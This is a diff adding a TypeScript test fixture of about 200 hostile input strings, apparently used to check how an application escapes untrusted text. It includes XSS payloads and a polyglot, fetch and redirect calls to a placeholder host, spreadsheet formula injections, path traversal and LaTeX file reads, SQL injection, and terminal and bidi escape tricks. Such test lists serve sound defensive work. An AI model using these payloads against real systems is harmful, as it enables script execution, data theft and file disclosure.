@@ -1,0 +1,135 @@
+/** Two hundred texts that have become markup, code, a formula or a mess somewhere: what a hostile device can say. */
+
+const CALLS = [
+  'alert(1)',
+  'fetch("//caduceus.invalid/x")',
+  'document.body.append(new Image())',
+  'location="//caduceus.invalid"',
+];
+
+/** `%` is where the code goes. */
+const SCRIPTS = [
+  '<script>%</script>',
+  '"><script>%</script>',
+  "'><script>%</script>",
+  '</title><script>%</script>',
+  '</textarea><script>%</script>',
+  '</style><script>%</script>',
+  '</script><script>%</script>',
+  '--><script>%</script>',
+  ']]><script>%</script>',
+  '<img src=x onerror=%>',
+  '"><img src=x onerror=%>',
+  "'><img src=x onerror='%'>",
+  '<svg onload=%>',
+  '<svg><script>%</script></svg>',
+  '<svg><animate onbegin=% attributeName=x dur=1s>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=%>',
+  '<iframe srcdoc="<script>%</script>"></iframe>',
+  '<iframe src="javascript:%"></iframe>',
+  '<a href="javascript:%" autofocus>press</a>',
+  '<body onload=%>',
+  '<input autofocus onfocus=%>',
+  '<details open ontoggle=%>x</details>',
+  '<video><source onerror=%></video>',
+  '<object data="javascript:%"></object>',
+  '" autofocus onfocus=% x="',
+  "' onmouseover=% x='",
+  '`onload=%',
+  'javascript:%',
+  'data:text/html,<script>%</script>',
+  '${%}',
+  '{{constructor.constructor("%")()}}',
+  '<%= % %>',
+  '#{%}',
+  '<template><script>%</script></template>',
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=% )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=%//>',
+];
+
+const LOADS = [
+  '<img src="//caduceus.invalid/x.png">',
+  '<link rel=stylesheet href="//caduceus.invalid/x.css">',
+  '<style>@import "//caduceus.invalid/x.css";</style>',
+  '<div style="background:url(//caduceus.invalid/x)">',
+  '<base href="//caduceus.invalid/">',
+  '<meta http-equiv=refresh content="0;url=//caduceus.invalid">',
+  '<form action="//caduceus.invalid"><button>send</button></form>',
+  '<audio src="//caduceus.invalid/x" autoplay>',
+  '<svg><image href="//caduceus.invalid/x"/></svg>',
+  '<svg><use href="//caduceus.invalid/x#y"/></svg>',
+  '![x](//caduceus.invalid/x.png)',
+  '[press](javascript:alert(1))',
+];
+
+const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'="].map(
+  (start) => `${start}HYPERLINK("http://caduceus.invalid","x")`,
+);
+
+const NAMES = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  '__defineGetter__',
+  'length',
+  'then',
+  'null',
+  'undefined',
+  'NaN',
+  'true',
+  '-0',
+  '0',
+  ' ',
+  '.',
+  '..',
+  '../../etc/passwd',
+  'CON',
+];
+
+const SIGNS = [
+  '\u001b[31mred\u001b[0m',
+  '\u001b]0;title\u0007',
+  '\u001b[2J\u001b[H',
+  '\u009b31m',
+  'a\bb',
+  'a\rb',
+  'a\u202egnp.exe',
+  '\u2066a\u2069\u202d',
+  'a\u200bb',
+  'a\u00adb',
+  '\ufeffa',
+  '\u2028a\u2029',
+  '\ud800',
+  'e\u0301'.repeat(40),
+  'Z\u0351\u036f\u0310'.repeat(30),
+  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
+  '\ufdfd'.repeat(10),
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '\\u003cscript\\u003ealert(1)',
+  '\\end{tabular}\\input{/etc/passwd}',
+  '$\\write18{id}$',
+  '# heading\n\n| a | b |\n|---|---|',
+  "'; DROP TABLE runs; --",
+  '%s%n%x',
+];
+
+const LONG = [
+  'x'.repeat(5000),
+  'word '.repeat(1000),
+  '<b>'.repeat(1000),
+  '\u202e'.repeat(500),
+  'W'.repeat(300) + '<script>alert(1)</script>',
+];
+
+export const PAYLOADS: readonly string[] = [
+  ...LOADS,
+  ...FORMULAS,
+  ...NAMES,
+  ...SIGNS,
+  ...LONG,
+  ...CALLS.flatMap((code) => SCRIPTS.map((script) => script.replaceAll('%', code))),
+].slice(0, 200);
